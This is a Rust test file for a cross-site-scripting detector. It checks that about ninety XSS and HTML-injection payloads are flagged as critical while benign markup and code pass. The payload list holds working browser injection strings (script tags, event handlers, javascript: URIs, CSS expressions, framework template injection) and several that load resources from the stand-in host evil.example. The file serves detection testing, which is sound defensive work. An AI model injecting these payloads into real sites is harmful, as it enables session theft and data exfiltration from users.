use super::*;

fn found(text: &str) -> Option<Severity> {
    let value = Value {
        bytes: text.as_bytes(),
        stood: Where::Parameter,
        name: b"q",
        declared: None,
    };
    crate::detect::look(&DETECTOR, &value).and_then(|finding| finding.severity)
}

#[test]
fn attacks_are_found() {
    let attacks = [
        "<script>alert(1)</script>",
        "<ScRiPt/x>alert(1)",
        "<script",
        "<scr\0ipt>alert(1)</script>",
        "<scr<script>ipt>alert(1)",
        "<<script>alert(1)",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<svg onload=alert(1)",
        "<svg\nonload\n=\nalert(1)>",
        "<x onfoobarbaz=alert(1)>",
        "<p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<a title=\"<b>\" onclick=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript&colon;alert(1)\">x</a>",
        "<a href=' \x01javascript:alert(1)'>x</a>",
        "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<div style='width:expression(alert(1))'>",
        "<div style='width:ex/**/pression(alert(1))'>",
        "<style>@import 'http://evil.example/x.css';</style>",
        "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>",
        "<svg><set attributeName=onmouseover to=alert(1)>",
        "\" onfocus=alert(1) autofocus x=\"",
        "' onmouseover='alert(1)",
        "x onerror=alert(1)",
        "javascript:alert(1)",
        "java\tscript:alert(1)",
        "javascript://%0aalert(1)",
        "javascript:/*x*/alert`1`",
        "data:text/html,<b>x</b>",
        "[x](javascript:alert(1))",
        "';alert(1)//",
        "\\';alert(1)//",
        "\"-alert(1)-\"",
        "'+alert(1)+'",
        "');alert(1);//",
        "';foo(1)//",
        "<div ng-app ng-init=constructor.constructor('alert(1)')()>",
        "+ADw-script+AD4-alert(1)",
        "<form><button formaction=javascript:alert(1)>x",
        "<embed src=//evil.example/x.swf>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<img src=\"x` `<script>alert(1)</script>\"` `>",
        "<img src='x onerror=alert(1)//<b onclick=alert(1)>",
        "alert(1)",
        "document.write(name)",
        "onload=x=>alert(1)",
        ";foo(1)//",
        "*/alert(1)/*",
        "1);alert(1)//",
        "${alert(1)}",
        "a `${x}` ${confirm(1)} b",
        "</script>",
        "<script>",
        "<script>a(b) /c d/;alert(1)</script>",
        "<script>`x`;alert(1)",
        "<script>`${alert(1)}`",
        "<script>``\nalert(1)",
        "<script src=//evil.example>a b c",
        "<script type=module>alert(1)",
        "<script type=text/template></script><script>alert(1)",
        "@import url('//evil.example/a.css')",
        "x:expression(alert(1))",
        "behavior: url(a.htc)",
        "<scr<script>ipt src=//evil.example/x.js>",
        "<img src=javascrscriptipt:alert(1)>",
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]]()",
        "expr\\65 ssion(alert(1))",
        "\\000065 xpression(alert(1))",
        "\" style=\"expression(alert('1'))\" x=\"",
        "<\u{17f}cript>",
        "<img src='https://evil.example/?",
        "<base target=\"",
        "<form action=//evil.example><input name=a>",
        "<style>a{background:url('//evil.example/a')}</style>",
        "<div style='x:\\65 xpression(alert(1))'>",
        "<div style=\"x:\\000065xpr\\65 ssion(alert(1))\">",
        "<link rel=preconnect href=//evil.example>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
        "<iframe src=http://evil.example>",
        "<iframe src='mhtml:http://evil.example/a!b'>",
        "<p (click)=\"alert(1)\">",
        "<p [innerHTML]='x'>",
        "<?import namespace=x implementation=y>",
    ];
    let missed: Vec<_> = attacks
        .iter()
        .filter(|attack| found(attack) != Some(Severity::Critical))
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn good_text_passes() {
    let goods = [
        "<p>hello <b>world</b></p>",
        "<a href=\"https://example.com/?a=1&b=2\" title=\"x > y\">a link</a>",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"a picture\">",
        "<ul><li style=\"color: red; background: url(x.png)\">one</li></ul>",
        "I <3 you",
        "<john@example.com>",
        "a<b and c>d",
        "List<String> names = new ArrayList<>();",
        "for (i=0;i<n;i++) { el.onclick=function(){ go(); } }",
        "JavaScript: the good parts (second edition)",
        "javascript: use map() and filter()",
        "time: 10:30 (approx.)",
        "He said \"hello\" and left (quickly)",
        "O'Brien (the elder)",
        "x = ','.join(names)",
        "s.split(',').map(f)",
        "print('a', foo('b'))",
        "if (a == '' || b == '') return;",
        "shutil.rmtree(path, onerror=handler)",
        "const onSubmit = document.getElementById('x')",
        "button.onclick = () => save('hi')",
        "f(x) = 2 * x",
        "one=1&two=2",
        "<item only=\"true\" once=\"1\">x</item>",
        "<button onClick={handleClick}>Go</button>",
        "<iframe src=\"https://video.example/embed/x\"></iframe>",
        "Use the `on` attribute: on=1",
        "'-' + str(x) + '-'",
        "https://example.com/a?b=c#d",
        "{\"a\": \"it's\", \"b\": [1, 2]}",
        "tel:+49 (30) 1234",
        "a ¼ cup (60 ml)",
        "<!-- a comment --> text",
        "<br/><hr />",
        "<T extends Comparable<T>> void sort(List<T> list)",
        "wrapped in a ``<script>`` tag, ready for use",
        "The `<script>` element and the `<style>` element are different",
        "a <script> tag in the head",
        "<script type=\"application/ld+json\">{\"@type\": \"Person\"}</script >",
        ".. _JavaScript: https://example.com/JavaScript\n.. |fetch| replace:: ``fetch()``",
        "class A(B):\n    def f(self, x): return self.expression(window.x)",
        "- Don't use both `-a` and `-b=` on it ([#1](https://example.com/a/b))",
        "document.title",
        "let a = document.querySelector('#a')",
        "Notice (alert)",
        "location=Berlin",
        "<form action=\"/search\"><input name=\"q\"></form>",
        "<style>p { background: url(a.png) }</style>",
        "<p>see <a href=\"https://example.com/a",
        "<p>it goes on: <a href=\"https://example.com\">and then",
        "`${window.location.origin}/api`",
    ];
    let wrong: Vec<_> = goods
        .iter()
        .map(|good| (good, found(good)))
        .filter(|(_, severity)| severity.is_some_and(|severity| severity < Severity::Error))
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn attributes_of_frameworks_are_found_with_and_without_a_tag() {
    let names = [
        "(click)",
        "@focus",
        "ng-focus",
        "data-ng-init",
        "v-on:click",
        "v-html",
        "x-init",
        "on:click",
        ":title",
        "[title]",
        "hx-on:click",
    ];
    let values = [
        "constructor.constructor('alert(1)')()",
        "$event.view.alert(1)",
        "a=toString().constructor('x')()",
    ];
    for name in names {
        for value in values {
            for around in [
                "#=\"#\"",
                "<p #=\"#\">",
                "\" #=\"#\" x=\"",
                "a #='#' autofocus",
            ] {
                let quoted = around.contains('\'');
                let value = if quoted {
                    value.replace('\'', "\"")
                } else {
                    value.to_owned()
                };
                let text = around.replacen('#', name, 1).replacen('#', &value, 1);
                assert_eq!(found(&text), Some(Severity::Critical), "{text}");
            }
        }
    }
    for text in [
        "<button formaction=//a.example/>",
        "<input type=submit formaction=\"https://a.example/x\">",
        "<span datasrc=#x datafld=b dataformatas=html>",
        "<div class=\"ng-init:alert(1)\">",
        "<p hx-vals='js:{x: alert(1)}'>",
        "<webview src=\"http://a.example\">",
    ] {
        assert_eq!(found(text), Some(Severity::Critical), "{text}");
    }
    for text in [
        "<button @click=\"count++\">add</button>",
        "<li v-for=\"item in items\" :key=\"item.id\">",
        "<p class=\"ng-scope ng-binding\">",
        "<button formaction=\"/save\">",
        "<button onClick={() => setCount(count + 1)}>",
        "a[x]=\"b\" (c)=\"d\"",
    ] {
        let severity = found(text);
        assert!(
            severity.is_none_or(|severity| severity > Severity::Warning),
            "{text}: {severity:?}"
        );
    }
}

#[test]
fn styles_of_the_own_host_are_a_hint_and_others_are_found() {
    for relation in ["stylesheet", "manifest", "preload", "prefetch"] {
        let own = format!("<link rel=\"{relation}\" href=\"css/page.css\">");
        assert_eq!(found(&own), Some(Severity::Notice), "{own}");
        for host in ["//a.example/x", "https://a.example/x", "data:text/css,a"] {
            let other = format!("<link rel=\"{relation}\" href=\"{host}\">");
            assert_eq!(found(&other), Some(Severity::Critical), "{other}");
        }
    }
    let imported = found("<link rel=import href=/upload/a.html>");
    assert_eq!(imported, Some(Severity::Error));
}

#[test]
fn markup_behind_an_attribute_that_ended_is_a_doubt() {
    for before in ["\">", "'>", "x\" >", "x\"/>", "5' />\n"] {
        for tag in ["<textarea name=x>", "<!--", "<plaintext>", "</b>"] {
            let text = format!("{before}{tag}");
            assert_eq!(found(&text), Some(Severity::Info), "{text}");
        }
    }
    for text in [
        "<a title=\"x\"><b>",
        "title=\"x\"><b>",
        "it's > <b>",
        "\"> 5 < 6",
        "x \"y\"> <",
        "> \"quoted\" <b>",
    ] {
        assert!(!found(text).is_some_and(Severity::is_doubt), "{text}");
    }
}
